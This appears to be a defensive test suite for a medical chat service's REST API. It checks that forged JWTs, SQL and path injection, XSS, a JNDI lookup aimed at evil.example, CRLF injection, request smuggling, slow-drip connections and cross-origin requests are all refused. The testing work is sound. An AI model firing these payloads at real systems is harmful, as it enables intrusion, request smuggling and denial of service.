// Entries 1 to 30: REST.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import { gzipSync } from 'node:zlib';

import axios from 'axios';

import { newConversation } from '../lib/directory.mjs';
import { api, gateways, publicUrl, stores } from '../lib/environment.mjs';
import { as, posted, rest } from '../lib/rest.mjs';
import { newPerson } from '../lib/root.mjs';
import { seconds, sign } from '../lib/token.mjs';
import { CANARY, exchange, Raw, secret } from './tools.mjs';

const OWN = (c) => `/chat/conversations?patientId=${c.patient.id}`;

/** Asserts that the token opens nothing. */
async function refused(c, token, status = 401) {
  const answer = await as({ token: secret(token) }).get(OWN(c));
  assert.equal(answer.status, status, `${JSON.stringify(answer.data)} for ${token.slice(0, 60)}`);
}

const claims = (c, changes = {}) => ({
  sub: c.patient.id,
  role: 'patient',
  exp: seconds() + 600,
  ...changes,
});

const encode = (value) => Buffer.from(value).toString('base64url');

export const rows = [
  {
    n: 1,
    what: 'no token',
    attack: async (c) => assert.equal((await rest().get(OWN(c))).status, 401),
  },
  {
    n: 2,
    what: 'alg none',
    async attack(c) {
      for (const alg of ['none', 'None', 'nOnE', 'NONE', '']) {
        const unsigned = `${encode(JSON.stringify({ alg }))}.${encode(JSON.stringify(claims(c)))}`;
        await refused(c, `${unsigned}.`);
        await refused(c, `${unsigned}.AAAA`);
      }
    },
  },
  {
    n: 3,
    what: 'HS256 signed with the public key',
    shown: ['crates/service-kit/src/auth/tests/jwks.rs', 'pem_keys_verify_their_algorithm_alone'],
  },
  {
    n: 4,
    what: 'kid that is a path or SQL',
    async attack(c) {
      for (const kid of ['unknown', '../../x', '/dev/null', "' OR 1=1 --", '', 7, { a: 1 }]) {
        const header = { alg: 'HS256', kid };
        await refused(c, sign(claims(c), { header, secret: 'x'.repeat(32) }));
      }
    },
  },
  {
    n: 5,
    what: 'jku, x5u and jwk that point to the attacker',
    async attack(c) {
      let asked = 0;
      const server = createServer((_, answer) => {
        asked += 1;
        answer.end('{"keys":[]}');
      });
      await new Promise((done) => server.listen(0, '127.0.0.1', done));
      const url = `http://127.0.0.1:${server.address().port}/keys`;
      const jwk = { kty: 'oct', k: encode('x'.repeat(32)) };
      for (const more of [{ jku: url }, { x5u: url }, { jwk }, { jku: url, kid: 'k' }]) {
        const header = { alg: 'HS256', ...more };
        await refused(c, sign(claims(c), { header, secret: 'x'.repeat(32) }));
      }
      server.close();
      assert.equal(asked, 0);
    },
  },
  {
    n: 6,
    what: 'expired, too early, and odd claims',
    async attack(c) {
      for (const changes of [
        { exp: seconds() - 31 },
        { nbf: seconds() + 300 },
        { exp: undefined },
        { sub: undefined },
        { exp: `${seconds() + 600}` },
        { exp: seconds() + 600.5 },
        { exp: -1 },
        { exp: null },
        { exp: [seconds() + 600] },
        { sub: 7 },
        { sub: '' },
        { sub: { id: c.patient.id } },
      ]) {
        await refused(c, sign(claims(c, changes)));
      }
    },
  },
  {
    n: 7,
    what: 'tokens for something else',
    async attack(c) {
      for (const changes of [
        { token_use: 'refresh' },
        { token_use: 'id' },
        { typ: 'Refresh' },
        { type: 'refresh' },
      ]) {
        await refused(c, sign(claims(c, changes)));
      }
    },
    shown: ['crates/service-kit/src/auth/tests/tokens.rs', 'issuer_and_audience_are_checked_when_configured'],
  },
  {
    n: 8,
    what: 'a role that is none of the app',
    async attack(c) {
      for (const role of ['agent', 'doctor', 'admin', undefined, ['patient'], { a: 1 }]) {
        await refused(c, sign(claims(c, { role })), 403);
      }
    },
  },
  {
    n: 9,
    what: 'a token in the query',
    async attack(c) {
      const token = secret(sign(claims(c, { jti: CANARY })));
      for (const name of ['token', 'access_token', 'authorization', 'auth']) {
        const answer = await rest().get(`${OWN(c)}&${name}=${token}`);
        assert.equal(answer.status, 401, name);
      }
    },
  },
  {
    n: 10,
    what: '40 KB of Authorization',
    async attack() {
      const head = `GET /api/v1/chat/conversations HTTP/1.1\r\nHost: x\r\nConnection: close\r\n`;
      for (const url of [stores.at(-1).url, publicUrl]) {
        const answer = await exchange(url, `${head}Authorization: Bearer ${'a'.repeat(40_000)}\r\n\r\n`);
        assert.match(answer, /^HTTP\/1.. (400|401|431)/, url);
      }
    },
  },
  {
    n: 11,
    what: 'two credentials: the bearer counts alone',
    async attack(c) {
      const both = rest({
        Authorization: `Bearer ${c.patient.token}`,
        Cookie: `access_token=${c.consultant.token}`,
      });
      assert.equal((await both.get(OWN(c))).status, 200);
      const other = `/chat/conversations?consultantId=${c.consultant.id}`;
      assert.equal((await both.get(other)).status, 403);
    },
  },
  {
    n: 12,
    what: 'a change by cookie from a foreign page',
    async attack(c) {
      const body = { ...c.ids, content: CANARY, senderType: 'patient' };
      for (const more of [
        {},
        { Origin: 'https://evil.example' },
        { Origin: 'null' },
        { Referer: 'https://evil.example/?http://localhost:3000/' },
        { Origin: 'http://localhost:3000.evil.example' },
      ]) {
        const cookie = rest({ Cookie: `access_token=${c.patient.token}`, ...more });
        assert.equal((await cookie.post('/chat/messages', body)).status, 403, JSON.stringify(more));
      }
    },
  },
  {
    n: 13,
    what: 'a preflight from a foreign page',
    async attack() {
      const answer = await rest({
        Origin: 'https://evil.example',
        'Access-Control-Request-Method': 'POST',
      }).options('/chat/messages');
      assert.equal(answer.headers['access-control-allow-origin'], undefined);
      assert.equal(answer.headers['access-control-allow-credentials'], undefined);
    },
  },
  {
    n: 14,
    what: "somebody else's conversations",
    async attack(c) {
      for (const query of [`patientId=${c.patient.id}`, `consultantId=${c.consultant.id}`]) {
        const answer = await as(c.stranger).get(`/chat/conversations?${query}`);
        assert.equal(answer.status, 403, query);
      }
    },
  },
  {
    n: 15,
    what: 'both ids or none',
    async attack(c) {
      const both = `patientId=${c.patient.id}&consultantId=${c.consultant.id}`;
      for (const query of [both, '', `patientId=&consultantId=`]) {
        const answer = await as(c.patient).get(`/chat/conversations?${query}`);
        assert.equal(answer.status, 400, query);
      }
    },
  },
  {
    n: 16,
    what: "a stranger's conversation",
    async attack(c) {
      await posted(c.patient, c.ids, CANARY);
      for (const path of ['messages', 'unread']) {
        const foreign = `/chat/conversations/${c.conversationId}/${path}`;
        const mine = path === 'unread' ? `?userId=${c.stranger.id}` : '';
        const answer = await as(c.stranger).get(foreign + mine);
        assert.equal(answer.status, 403, path);
        assert.doesNotMatch(JSON.stringify(answer.data), /canary/);
      }
      const unknown = `/chat/conversations/${randomUUID()}/messages`;
      assert.equal((await as(c.stranger).get(unknown)).status, 404);
    },
  },
  {
    n: 17,
    what: 'pages that make no sense',
    async attack(c) {
      for (const query of [
        'limit=-1',
        'limit=0',
        'limit=1e9',
        'limit=201',
        'limit=abc',
        'limit=',
        'offset=-1',
        'offset=9223372036854775808',
        'afterSeq=-1',
        'afterSeq=18446744073709551616',
        'beforeSeq=x',
        'order=sideways',
      ]) {
        const path = `/chat/conversations/${c.conversationId}/messages?${query}`;
        assert.equal((await as(c.patient).get(path)).status, 400, query);
      }
    },
  },
  {
    n: 18,
    what: 'ids that are none',
    async attack(c) {
      const id = c.conversationId;
      for (const bad of [
        'x',
        '1',
        `{${id}}`,
        `urn:uuid:${id}`,
        id.slice(1),
        `${id}0`,
        id.replaceAll('-', ''),
        '%00',
        "' OR 1=1",
        '..%2f..%2fetc',
      ]) {
        const path = `/chat/conversations/${encodeURIComponent(bad)}/messages`;
        const { status } = await as(c.patient).get(path);
        assert.ok([400, 404].includes(status), `${status} for ${bad}`);
      }
      const shouted = `/chat/conversations/${id.toUpperCase()}/messages`;
      assert.ok([200, 400].includes((await as(c.patient).get(shouted)).status));
    },
  },
  {
    n: 19,
    what: 'contents that are none, and odd ones that are',
    async attack(c) {
      for (const content of ['', '   ', ' \n\t', 'x'.repeat(4_001), 'a\0b', 7, {}, [], null]) {
        const answer = await as(c.patient).post('/chat/messages', {
          ...c.ids,
          content,
          senderType: 'patient',
        });
        assert.equal(answer.status, 400, JSON.stringify(content).slice(0, 40));
      }
      const surrogate = `{"content":"\\ud800","senderType":"patient",${JSON.stringify(c.ids).slice(1)}`;
      const answer = await axios.post(`${api}/chat/messages`, surrogate, {
        headers: { Authorization: `Bearer ${c.patient.token}`, 'Content-Type': 'application/json' },
        validateStatus: () => true,
      });
      assert.equal(answer.status, 400);
      for (const content of [`\u202e${CANARY}`, '👩‍⚕️🏳️‍🌈', 'שלום', 'x'.repeat(4_000), 'e\u0301\u200d']) {
        const { message } = await posted(c.patient, c.ids, content);
        assert.equal(message.content, content);
      }
    },
  },
  {
    n: 20,
    what: 'content that means something elsewhere',
    async attack(c) {
      for (const content of [
        `<script>alert('${CANARY}')</script>`,
        "'; DROP TABLE messages; --",
        '${jndi:ldap://evil.example/a}',
        'a\r\nSet-Cookie: x=1\r\n\r\nb',
        '{{7*7}}',
        '%s%n%x',
        '\u001b[31mred',
      ]) {
        const { message } = await posted(c.patient, c.ids, content);
        assert.equal(message.content, content);
      }
    },
  },
  {
    n: 21,
    what: 'a sender of another role',
    async attack(c) {
      const body = { ...c.ids, content: CANARY, senderType: 'consultant' };
      assert.equal((await as(c.patient).post('/chat/messages', body)).status, 403);
    },
  },
  {
    n: 22,
    what: 'another conversation in the body than in the path',
    async attack(c) {
      const { message } = await posted(c.consultant, c.ids, CANARY);
      const other = await newConversation({ patient: c.patient });
      await as(c.patient).post(`/chat/conversations/${other.conversationId}/read`, {
        conversationId: c.conversationId,
        userId: c.patient.id,
        messageIds: [message.id],
      });
      const path = `/chat/conversations/${c.conversationId}/messages`;
      const { data } = await as(c.patient).get(path);
      assert.equal(data.messages.find(({ id }) => id === message.id).isRead, false);
    },
  },
  {
    n: 23,
    what: 'messageIds',
    async attack(c) {
      const read = (messageIds) =>
        as(c.patient).post(`/chat/conversations/${c.conversationId}/read`, {
          userId: c.patient.id,
          messageIds,
        });
      const { message: own } = await posted(c.patient, c.ids, CANARY);
      const { message: others } = await posted(c.consultant, c.ids, CANARY);
      for (const bad of [[], Array.from({ length: 501 }, () => randomUUID()), 'x', [7], null]) {
        assert.equal((await read(bad)).status, 400, JSON.stringify(bad)?.slice(0, 30));
      }
      const answer = await read([others.id, others.id, own.id, randomUUID()]);
      assert.equal(answer.status, 200, JSON.stringify(answer.data));
      const { data } = await as(c.patient).get(`/chat/conversations/${c.conversationId}/messages`);
      const isRead = (id) => data.messages.find((message) => message.id === id).isRead;
      assert.deepEqual([isRead(others.id), isRead(own.id)], [true, false]);
    },
  },
  {
    n: 24,
    what: 'bodies',
    async attack(c) {
      const send = (body, more = {}) =>
        axios.post(`${api}/chat/messages`, body, {
          headers: {
            Authorization: `Bearer ${c.patient.token}`,
            'Content-Type': 'application/json',
            ...more,
          },
          transformRequest: (data) => data,
          validateStatus: () => true,
        });
      const good = JSON.stringify({ ...c.ids, content: 'x', senderType: 'patient' });
      const deep = `{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}`;
      assert.equal((await send(deep)).status, 400);
      assert.equal((await send(`${good}}`)).status, 400);
      assert.equal((await send('[]')).status, 400);
      assert.equal((await send(`{"content":"${'x'.repeat(5_000_000)}"}`)).status, 413);
      assert.equal((await send(good, { 'Content-Type': 'text/plain' })).status, 415);
      assert.equal((await send(gzipSync(good), { 'Content-Encoding': 'gzip' })).status, 415);
      const twice = `{"senderType":"consultant",${good.slice(1)}`;
      assert.equal((await send(twice)).status, 201, 'of a name given twice the last counts');
    },
  },
  {
    n: 25,
    what: 'requests that two servers would read differently',
    async attack() {
      const post = 'POST /api/v1/chat/messages HTTP/1.1\r\nHost: x\r\n';
      const poll = 'POST /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n';
      for (const [url, head] of [
        [stores.at(-1).url, post],
        [gateways[0].url, poll],
        [publicUrl, post],
      ]) {
        for (const rest of [
          'Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!',
          'Content-Length: x\r\n\r\n',
          'Content-Length: -1\r\n\r\n',
          'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n',
          'Transfer-Encoding: chunked\r\n\r\nzz\r\n',
          'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
        ]) {
          const raw = new Raw(url).write(head + rest);
          const answer = await raw.until(
            () => (raw.isClosed || raw.text.includes('\r\n\r\n') ? raw.text : undefined),
            'an answer',
            15_000,
          );
          raw.end();
          assert.doesNotMatch(answer, /^HTTP\/1.. [25]0[01]/, `${rest} ${answer.slice(0, 80)}`);
        }
      }
    },
    shown: ['services/chat-store/tests/it/http_connections.rs', 'rude_requests_are_refused_and_cut'],
  },
  {
    n: 26,
    what: 'a head or a body that never ends',
    async attack(c) {
      const body = 'POST /api/v1/chat/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n';
      const auth = `Authorization: Bearer ${c.patient.token}\r\n`;
      const slow = [stores.at(-1), gateways[0]].map(({ url }) =>
        new Raw(url).write('GET /socket.io/?EIO=4 HTTP/1.1\r\nX: '),
      );
      slow.push(new Raw(stores.at(-1).url).write(`${body}${auth}Content-Length: 100\r\n\r\n{`));
      const open = await fetch(`${gateways[0].url}/socket.io/?EIO=4&transport=polling`);
      const { sid } = JSON.parse((await open.text()).slice(1));
      const poll = `POST /socket.io/?EIO=4&transport=polling&sid=${sid} HTTP/1.1\r\nHost: x\r\n`;
      slow.push(new Raw(gateways[0].url).write(`${poll}Content-Length: 100\r\n\r\n4`));
      const drip = setInterval(() => slow.forEach((raw) => !raw.isClosed && raw.write('x')), 1_000);
      try {
        await Promise.all(
          slow.map((raw) =>
            raw.until(() => raw.isClosed || raw.text.includes(' 408 ') || undefined, 'the end'),
          ),
        );
      } finally {
        clearInterval(drip);
        slow.forEach((raw) => raw.end());
      }
    },
  },
  {
    n: 27,
    what: 'methods',
    async attack(c) {
      for (const method of ['TRACE', 'PUT', 'DELETE', 'PATCH']) {
        const head = `${method} /api/v1/chat/messages HTTP/1.1\r\nHost: x\r\nConnection: close\r\n`;
        const answer = await exchange(
          stores.at(-1).url,
          `${head}Authorization: Bearer ${c.patient.token}\r\n\r\n`,
        );
        assert.match(answer, /^HTTP\/1.1 405/, method);
        assert.ok(!answer.includes(c.patient.token), 'nothing is echoed');
      }
      const overridden = rest({
        Authorization: `Bearer ${c.patient.token}`,
        'X-HTTP-Method-Override': 'DELETE',
      });
      assert.equal((await overridden.get(OWN(c))).status, 200);
    },
  },
  {
    n: 28,
    what: 'who is there: too many, and strangers',
    async attack(c) {
      const of = (ids) => as(c.stranger).get(`/chat/presence?userIds=${ids.join(',')}`);
      const many = Array.from({ length: 101 }, () => randomUUID());
      assert.equal((await of(many)).status, 400);
      const { data } = await of([c.patient.id, c.consultant.id]);
      assert.deepEqual(
        data.map(({ isOnline }) => isOnline),
        [false, false],
      );
    },
  },
  {
    n: 29,
    what: 'searches that match everything',
    async attack(c) {
      await posted(c.patient, c.ids, CANARY);
      const person = await newPerson(c.care, 'doctor');
      for (const query of ['%', '_', '\\', '%%', '.*', '(a+)+$', 'x'.repeat(1_024), "' OR 1=1"]) {
        const search = `search?query=${encodeURIComponent(query)}`;
        const own = await as(c.stranger).get(`/chat/${search}`);
        assert.ok([200, 400, 413].includes(own.status), `${own.status} for ${query}`);
        assert.doesNotMatch(JSON.stringify(own.data), /canary/, query);
        const care = await axios.get(`${publicUrl}/chat/${search}`, {
          headers: { Authorization: `Bearer ${person.token}` },
          validateStatus: () => true,
        });
        assert.ok([200, 400, 413].includes(care.status), `${care.status} for ${query}`);
        assert.doesNotMatch(JSON.stringify(care.data), /@example.org/, query);
      }
    },
  },
  {
    n: 30,
    what: 'a request that is sent again',
    async attack(c) {
      const key = randomUUID();
      const send = (content) =>
        rest({ Authorization: `Bearer ${c.patient.token}`, 'Idempotency-Key': key }).post(
          '/chat/messages',
          { ...c.ids, content, senderType: 'patient' },
        );
      const [one, two, three] = [await send(CANARY), await send(CANARY), await send('else')];
      assert.deepEqual([one.status, three.status], [201, 409]);
      assert.equal(one.data.message.id, two.data.message.id);
    },
  },
];
